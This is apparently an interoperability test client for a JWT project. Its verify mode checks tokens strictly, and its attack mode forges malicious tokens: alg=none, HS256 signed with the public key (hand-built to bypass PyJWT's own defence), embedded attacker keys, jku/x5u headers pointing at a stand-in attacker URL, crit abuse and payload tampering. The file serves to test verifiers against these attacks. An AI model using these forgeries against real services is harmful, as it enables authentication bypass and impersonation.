#!/usr/bin/env python3
"""Bonafide interop client built on PyJWT (https://pyjwt.readthedocs.io).

  pyjwt_client.py verify --jwks URL|FILE --token-file FILE [--audience A] [--issuer I]
      stdout: {"valid": true, "claims": {...}, "header": {...}}   exit 0
              {"valid": false, "error": "..."}                     exit 1
  pyjwt_client.py attack --kind KIND --out-file FILE --token-file FILE [--jwks URL|FILE]
      writes one malicious compact JWS to FILE, prints nothing     exit 0

Exit codes: 0 ok, 1 verification failure, 2 usage error, 3 environment error
(JWKS/token unreadable; no verdict). See interop/README.md.
"""

from __future__ import annotations

import hashlib
import hmac
import time

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from jwt.algorithms import get_default_algorithms

import common as c

TYP = "agent+jwt"
KINDS = ("none", "hs256-pubkey", "embedded-jwk", "jku", "x5u", "crit", "tampered-payload")
# Claims every Bonafide token carries; PyJWT refuses a token missing any of them.
REQUIRED = ["exp", "iat", "iss", "sub"]


# ------------------------------------------------------------------ verify
def verify(args) -> int:
    try:
        jwks_dict = c.load_jwks(args.jwks)
        token = c.read_token(args.token_file)
    except c.EnvError as e:
        c.emit({"valid": False, "error": str(e), "env_error": True})
        return c.EXIT_ENV
    try:
        header = jwt.get_unverified_header(token)
        kid = header.get("kid")
        if not isinstance(kid, str):
            raise jwt.InvalidTokenError("token header has no kid")
        keyset = jwt.PyJWKSet.from_dict(jwks_dict)
        try:
            key = keyset[kid]  # the key is chosen by kid, from the JWKS only
        except KeyError:
            raise jwt.InvalidTokenError(f"no key with kid {kid!r} in JWKS") from None
        claims = jwt.decode(
            token,
            key=key,
            algorithms=[key.algorithm_name],  # the JWKS key's alg, never the header's
            audience=args.audience,
            issuer=args.issuer,
            options={"require": REQUIRED},
        )
        # PyJWT has no typ option; check it the way an application would.
        if header.get("typ") != TYP:
            raise jwt.InvalidTokenError(f"typ is {header.get('typ')!r}, expected {TYP!r}")
    except (jwt.PyJWTError, ValueError, TypeError) as e:
        c.emit({"valid": False, "error": f"{type(e).__name__}: {e}"})
        return c.EXIT_INVALID
    c.emit({"valid": True, "claims": claims, "header": header})
    return c.EXIT_OK


# ------------------------------------------------------------------ attack
def attacker_key(alg: str):
    """A fresh key of the same family as the genuine token's alg."""
    if alg == "ES256":
        return ec.generate_private_key(ec.SECP256R1())
    if alg == "RS256":
        return rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return ed25519.Ed25519PrivateKey.generate()


def sign_with_attacker_key(claims: dict, alg: str, extra_header: dict) -> str:
    alg = alg if alg in ("ES256", "RS256", "EdDSA") else "EdDSA"
    priv = attacker_key(alg)
    headers = {"typ": TYP, **extra_header}
    if "jwk" in headers and headers["jwk"] is None:
        headers["jwk"] = get_default_algorithms()[alg].to_jwk(priv.public_key(), as_dict=True)
    return jwt.encode(claims, priv, algorithm=alg, headers=headers)


def attack(args) -> int:
    if not args.token_file:
        raise c.UsageError("attack needs --token-file (a genuine token to copy from)")
    token = c.read_token(args.token_file)
    header, claims, parts = c.split_token(token)
    kid = header.get("kid")
    alg = header.get("alg")
    kind = args.kind

    if kind == "none":
        # PyJWT signs alg=none itself when the key is None.
        out = jwt.encode(claims, None, algorithm="none", headers={"typ": TYP, "kid": kid})
    elif kind == "hs256-pubkey":
        if not args.jwks:
            raise c.UsageError("hs256-pubkey needs --jwks")
        real = c.find_jwk(c.load_jwks(args.jwks), kid)
        # PyJWT turns the published JWK into a cryptography key; PEM of its SPKI.
        pub = jwt.PyJWK.from_dict(real).key
        pem = pub.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        # PyJWT >= 2.x refuses PEM/asymmetric-looking HMAC secrets
        # (HMACAlgorithm.prepare_key -> InvalidKeyError), which is exactly the
        # defence against this attack. Bypass it: build the JWS by hand and
        # compute HS256 with the stdlib hmac module, secret = the PEM bytes.
        h = c.b64url_encode(c.json_compact({"alg": "HS256", "typ": TYP, "kid": kid}))
        p = c.b64url_encode(c.json_compact(claims))
        sig = hmac.new(pem, f"{h}.{p}".encode("ascii"), hashlib.sha256).digest()
        out = f"{h}.{p}.{c.b64url_encode(sig)}"
    elif kind == "embedded-jwk":
        out = sign_with_attacker_key(claims, alg, {"kid": kid, "jwk": None})
    elif kind == "jku":
        out = sign_with_attacker_key(claims, alg, {"kid": kid, "jku": c.ATTACKER_URL})
    elif kind == "x5u":
        out = sign_with_attacker_key(claims, alg, {"kid": kid, "x5u": c.ATTACKER_X5U})
    elif kind == "crit":
        # RFC 7515 4.1.11: an extension header listed in crit must be present.
        out = sign_with_attacker_key(
            claims, alg, {"kid": kid, "crit": ["exp"], "exp": int(time.time()) + 3600}
        )
    elif kind == "tampered-payload":
        # No library produces this: the genuine header and signature, a new payload.
        out = f"{parts[0]}.{c.b64url_encode(c.json_compact(c.tamper_claims(claims)))}.{parts[2]}"
    else:  # argparse choices make this unreachable
        raise c.UsageError(f"unknown kind {kind}")
    c.write_token(args.out_file, out)
    return c.EXIT_OK


def main() -> int:
    args = c.build_parser("pyjwt_client.py", __doc__.splitlines()[0], KINDS).parse_args()
    return verify(args) if args.command == "verify" else attack(args)


if __name__ == "__main__":
    c.run(main)
